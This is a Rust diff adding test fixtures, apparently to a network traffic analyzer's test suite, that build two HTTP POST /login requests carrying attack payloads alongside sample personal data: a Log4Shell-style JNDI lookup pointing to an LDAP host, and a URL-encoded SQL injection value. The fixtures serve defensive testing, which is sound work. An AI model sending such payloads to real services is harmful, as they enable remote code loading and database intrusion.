@@ -209,6 +209,26 @@ fn http() -> Talk {
     )
 }
 
+/// Bodies that hold an exploit and a person.
+fn exploits() -> [Talk; 2] {
+    let post = |media: &str, body: &str| {
+        let length = body.len();
+        let request = format!("POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: {media}\r\nContent-Length: {length}\r\n\r\n{body}");
+        let answer = b"HTTP/1.1 204 No Content\r\n\r\n";
+        talk("http", TCP, 80, &[request.as_bytes(), answer]).of(&["http"])
+    };
+    [
+        post(
+            "application/json",
+            "{\"family\":\"${jndi:ldap://x/MRN004711}\",\"given\":\"Erika\"}",
+        ),
+        post(
+            "application/x-www-form-urlencoded",
+            "name=Mustermann%27+or+%271%27%3d%271&born=19640812",
+        ),
+    ]
+}
+
 /// Two requests and their answers over HTTP/2, all texts in Huffman code and entered in the tables: what the first answer says of the server,
 /// the second refers to. The second request has a method of its own.
 fn http2() -> Talk {
@@ -653,6 +673,7 @@ fn everywhere() -> Vec<Talk> {
     all.extend(snmp());
     all.extend(banners());
     all.extend(mailboxes());
+    all.extend(exploits());
     for about in [
         "Erikas-MBP.fritz.box",
         "iphone-von-erika-mustermann.lan",
